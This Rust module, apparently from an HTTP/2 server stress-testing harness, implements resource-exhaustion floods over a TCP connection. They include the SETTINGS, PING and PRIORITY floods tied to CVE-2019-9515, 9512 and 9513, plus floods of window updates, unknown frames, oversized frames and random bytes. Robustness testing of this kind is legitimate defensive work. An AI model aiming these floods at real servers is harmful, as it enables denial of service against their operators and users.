//! Frames that belong to no request.

use mesh_core::rng::{Rng, XorShift};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::flood;
use crate::raw::{Client, PING, SETTINGS, WINDOW_UPDATE, frame};

async fn repeat(io: TcpStream, frame: Vec<u8>) {
    let mut client = Client::connect(io).await;
    flood(&mut client.0, &frame.repeat(1_000)).await;
}

/// Each wants an acknowledgement, which is never read (CVE-2019-9515).
pub(super) async fn settings(io: TcpStream) {
    repeat(io, frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 1])).await;
}

/// As [`settings`] (CVE-2019-9512).
pub(super) async fn pings(io: TcpStream) {
    repeat(io, frame(PING, 0, 0, &[7; 8])).await;
}

/// CVE-2019-9513.
pub(super) async fn priorities(io: TcpStream) {
    repeat(io, frame(2, 0, 1, &[0, 0, 0, 3, 7])).await;
}

pub(super) async fn window_updates(io: TcpStream) {
    repeat(io, frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())).await;
}

pub(super) async fn unknown_frames(io: TcpStream) {
    repeat(io, frame(0xee, 0xff, 0, &[7; 64])).await;
}

/// A frame above SETTINGS_MAX_FRAME_SIZE.
pub(super) async fn too_large(io: TcpStream) {
    repeat(io, frame(0, 0, 1, &[7; 20_000])).await;
}

pub(super) async fn random_bytes(mut io: TcpStream) {
    let mut rng = XorShift::new(u64::from(io.local_addr().unwrap().port()));
    loop {
        let bytes: Vec<u8> = (0..512).flat_map(|_| rng.next_u64().to_le_bytes()).collect();
        if io.write_all(&bytes).await.is_err() {
            return;
        }
    }
}
